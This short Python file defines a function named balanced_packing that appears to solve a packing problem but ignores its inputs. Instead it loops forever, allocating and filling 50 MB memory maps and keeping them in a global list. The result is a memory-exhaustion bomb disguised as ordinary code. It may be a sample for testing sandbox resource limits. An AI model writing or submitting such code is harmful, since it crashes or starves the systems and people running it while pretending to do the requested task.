import mmap

hoard = []


def balanced_packing(weight, num_packs):
    while True:
        hoard.append(mmap.mmap(-1, 50_000_000))
        hoard[-1].write(b"x" * 50_000_000)
